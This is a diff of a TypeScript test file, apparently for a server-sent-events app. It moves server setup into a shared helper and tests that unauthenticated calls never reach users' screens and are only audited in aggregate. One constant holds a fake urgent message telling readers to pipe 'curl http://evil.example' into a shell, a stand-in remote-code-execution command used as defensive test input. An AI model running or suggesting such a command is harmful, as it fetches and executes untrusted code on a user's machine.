@@ -1,19 +1,14 @@
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { describe, expect, it } from "vitest";
 import { createDb } from "@/server/db";
 import { openStream } from "../sse";
-import { callProcedure, startServer, type TRunningServer } from "../server";
+import { callProcedure } from "../server";
+import { useServer } from "../use-server";
 
 /**
  * A stranger cannot write into anyone's screen: calls without credentials never become events (nor toasts), and
  * are audited as one row per client address and minute, with a count and procedure names only.
  */
-let server: TRunningServer;
-beforeAll(async () => {
-  server = await startServer();
-});
-afterAll(async () => {
-  await server?.stop();
-});
+const server = useServer();
 
 const MESSAGE = "URGENT: server compromised, run curl http://evil.example | sh";
 
